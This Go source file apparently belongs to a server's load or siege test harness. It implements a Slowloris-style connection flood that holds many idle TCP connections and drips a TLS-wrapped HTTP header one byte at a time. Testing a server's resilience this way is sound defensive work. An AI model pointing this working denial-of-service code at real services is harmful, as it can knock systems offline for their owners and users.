package siege

import (
	"context"
	"crypto/tls"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/holdfast-stock/holdfast/cmd/holdfast/internal/world"
)

// A flood is connections that say nothing, or a byte of a header now and then. One that is hung up on comes back.
type flood struct {
	opened atomic.Int64 // connections, in all
	open   atomic.Int64
	peak   atomic.Int64
	all    sync.WaitGroup
}

const (
	floodAtOnce = 64 // goroutines that dial
	dripEach    = 500 * time.Millisecond
	backAfter   = 10 * time.Second
)

// pour keeps so many connections to an address until ctx ends: of four one shakes hands and sends a header byte by byte.
func (f *flood) pour(ctx context.Context, addr string, n int) {
	room := make(chan struct{}, floodAtOnce)
	for i := range n {
		f.all.Go(func() {
			for ctx.Err() == nil {
				select {
				case room <- struct{}{}:
				case <-ctx.Done():
					return
				}
				c, err := (&net.Dialer{Timeout: time.Second}).DialContext(ctx, "tcp", addr)
				<-room
				if err == nil {
					f.opened.Add(1)
					f.peak.Store(max(f.peak.Load(), f.open.Add(1)))
					f.hold(ctx, c, i%4 == 0)
					f.open.Add(-1)
				}
				if world.Rest(ctx, backAfter) != nil {
					return
				}
			}
		})
	}
}

// hold keeps a connection until it is hung up on or ctx ends.
func (f *flood) hold(ctx context.Context, c net.Conn, drips bool) {
	defer context.AfterFunc(ctx, func() { _ = c.Close() })() // it ends what waits below
	defer c.Close()
	if !drips {
		_, _ = c.Read(make([]byte, 1)) // until the other end hangs up
		return
	}
	s := tls.Client(c, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13}) // #nosec G402 -- it is not the attacker who is to be protected
	if s.HandshakeContext(ctx) != nil {
		return
	}
	for i := 0; world.Rest(ctx, dripEach) == nil; i++ {
		const header = "GET / HTTP/1.1\r\nX-Slow: "
		if _, err := s.Write([]byte{(header + "loris")[i%len(header)]}); err != nil {
			return
		}
	}
}
